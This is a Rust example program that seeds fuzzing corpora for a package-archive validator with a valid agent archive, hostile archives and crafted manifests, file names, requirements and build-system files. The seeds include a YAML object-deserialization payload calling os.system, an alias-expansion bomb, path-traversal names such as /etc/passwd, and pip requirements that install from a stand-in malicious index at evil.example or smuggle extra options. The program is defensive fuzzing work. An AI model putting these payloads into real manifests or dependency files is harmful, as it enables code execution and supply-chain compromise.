//! Seeds the fuzzers' corpora from the test fixtures: the valid agent and
//! every hostile archive, plus the manifests they carry.
//!
//! Usage: cargo run -p par-tests --example write_corpus -- fuzz/corpus

use std::fs;
use std::path::PathBuf;

use par_tests::apkg::AGENT_YAML;
use par_tests::{Apkg, hostile_cases};

fn main() -> std::io::Result<()> {
    let root = PathBuf::from(std::env::args().nth(1).unwrap_or_else(|| "fuzz/corpus".into()));
    let manifests = root.join("manifest");
    let names = root.join("entry_name");
    let requirements = root.join("requirements");
    let build_systems = root.join("build_system");
    // The extractor and the whole component take the same inputs.
    let archive_dirs = [root.join("archive"), root.join("component")];
    for dir in archive_dirs
        .iter()
        .chain([&manifests, &names, &requirements, &build_systems])
    {
        fs::create_dir_all(dir)?;
    }
    for archives in &archive_dirs {
        fs::write(archives.join("valid-agent.apkg"), Apkg::valid_agent().to_bytes())?;
        for (i, case) in hostile_cases().iter().enumerate() {
            fs::write(archives.join(format!("hostile-{i:02}.apkg")), case.apkg.to_bytes())?;
        }
    }
    let example = include_str!("../../examples/vivid-commenter/agent.yaml");
    let variants = [
        AGENT_YAML,
        example,
        "name: a\nversion: 1.10\nruntime:\n  python: \">=3.8\"\n",
        "name: a\nversion: '1'\nx: !!python/object:os.system ls\n",
        "name: a\nversion: '1'\nl0: &l0 [x, x]\nl1: [*l0, *l0]\n",
    ];
    for (i, yaml) in variants.iter().enumerate() {
        fs::write(manifests.join(format!("seed-{i}.yaml")), yaml)?;
    }
    for (i, name) in [
        "core/langchain_util.py",
        "../x",
        "/etc/passwd",
        "a\\b",
        "C:/x",
        "ui/static/",
    ]
    .iter()
    .enumerate()
    {
        fs::write(names.join(format!("seed-{i}")), name)?;
    }
    for (i, text) in [
        "# no external dependencies\n",
        "fastapi==0.110.0\npydantic[email]>=2,<3 \\\n  ; python_version >= \"3.8\"\n",
        "-e ./vendor/editable\n./vendor/helper\nhttpx==0.27.0 --hash=sha256:abc123\n",
        "--index-url https://evil.example/simple\nevil @ https://evil.example/e.whl\n",
        "-r other.txt\n-c constraints.txt\n../outside\n/etc/passwd\n--global-option=--evil\n",
        // Past findings: an allowed option carrying another, a scheme before `@`.
        "--pre -pi://\n--prefer-binary --index-url=http://127.0.0.1:9/simple\n--pre -f x\n",
        "-e fbzr+ile:.@./x\nx===../../..\nx ; extra == '-i'\n",
        "requests -f wheels\n--only-binary :all: --index-url https://evil.example\n--pre --find-links ./w\n",
        "-e ./vendor --extra-index-url=https://evil.example\n--no-binary=a,b\npkg @ https://x/${PIP_INDEX_URL}\n",
        "sneaky @ /home/someone/project\nsneaky @ ../../outside ; python_version > '3'\nok @ ./vendor/x\n-e file:../x\ngit+file:///r\n-e sneaky@/home/x\n-e fbzr+ile:.@./x\nx[a]@./y\n",
    ]
    .iter()
    .enumerate()
    {
        fs::write(requirements.join(format!("seed-{i}.txt")), text)?;
    }
    for (i, text) in [
        "[build-system]\nrequires = [\"setuptools>=64\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n",
        "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\", \".\"]\n",
        "[project]\nname = \"a\"\nversion = \"1\"\n[tool.black]\nline-length = 100\n",
        "[build-system]\nrequires = [\"evil @ https://evil.example/e.whl\", \"-r /etc/passwd\", \"../x\"]\n",
        "build-system = { requires = [\"a\"], backend-path = [\"../..\"] }\n",
    ]
    .iter()
    .enumerate()
    {
        fs::write(build_systems.join(format!("seed-{i}.toml")), text)?;
    }
    println!("corpus seeded under {}", root.display());
    Ok(())
}
